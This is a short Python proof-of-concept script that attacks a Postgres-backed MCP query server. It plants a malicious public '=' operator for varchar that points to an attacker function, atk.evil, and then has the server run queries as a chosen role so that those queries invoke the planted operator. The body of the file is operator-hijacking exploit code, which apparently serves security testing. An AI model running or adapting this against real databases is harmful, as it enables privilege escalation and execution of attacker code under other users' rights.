"""No race: plant public.=(varchar,varchar) first, then ask the server. Usage: planted_static.py ROLE SQL"""
import asyncio
import json
import sys

import asyncpg
from common import DSN, as_role, tool
from mcpclient import connect


async def main(role: str, sql: str) -> None:
    a = await asyncpg.connect(as_role("attacker"))
    await a.execute("DROP OPERATOR IF EXISTS public.= (varchar, varchar); CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = atk.evil)")
    try:
        async with connect(DSN if role == "postgres" else as_role(role)) as c:
            for i in range(3):
                ok, body = await tool(c, "execute_query", sql=sql)
                print(i, ok, json.dumps(body.get("error", body))[:400])
    finally:
        await a.execute("DROP OPERATOR IF EXISTS public.= (varchar, varchar)"); await a.close()

if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2]))
